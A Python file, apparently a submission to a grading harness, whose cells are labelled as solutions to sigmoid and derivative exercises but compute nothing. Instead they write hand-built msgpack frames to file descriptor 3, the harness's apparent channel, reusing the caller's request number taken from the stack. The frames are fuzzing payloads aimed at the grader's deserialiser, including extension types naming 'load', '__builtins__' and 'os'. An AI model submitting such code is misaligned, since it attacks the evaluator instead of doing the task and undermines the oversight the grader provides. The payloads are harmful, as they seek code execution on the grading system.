"""tries: send extension types with malformed bodies, dates, and those that name functions
class: deserialisation
"""
# %% added
import os, struct, sys
import msgpack

def number():
    """Of the request that is being answered, from the frames below."""
    frame = sys._getframe()
    while "number" not in frame.f_locals:
        frame = frame.f_back
    return frame.f_locals["number"]

packed = [msgpack.ExtType(code, body) for code in (*range(-1, 20), 127)
          for body in (b"", b"\x00", b"\xff" * 12, msgpack.packb([1] * 5), msgpack.packb("load"))]
packed += [msgpack.ExtType(13, msgpack.packb(name)) for name in
           ("load", "fromfile", "__builtins__", "os", "exp.__class__", "ctypeslib", "__dict__")]
packed += [msgpack.ExtType(14, msgpack.packb([2**200 % 2**63, -1, 7, 2**63])), msgpack.Timestamp(0)]
queue = iter(packed)

# %% solution: sigmoid
def sigmoid(x):
    head = msgpack.packb([1, [next(queue) for _ in range(3)], {}, []])
    os.write(3, struct.pack(">IIi", len(head), 0, -number()) + head)
    os.read(3, 1 << 16)

# %% solution: relu_derivative
def relu_derivative(x):
    head = msgpack.packb([1, packed[-3], {}, []])
    os.write(3, struct.pack(">IIi", len(head), 0, -number()) + head)

# %% solution: tanh_derivative
def tanh_derivative(x):
    head = msgpack.packb([1, packed[8], {packed[-1]: 1}, [7]])
    os.write(3, struct.pack(">IIi", len(head), 0, -number()) + head)
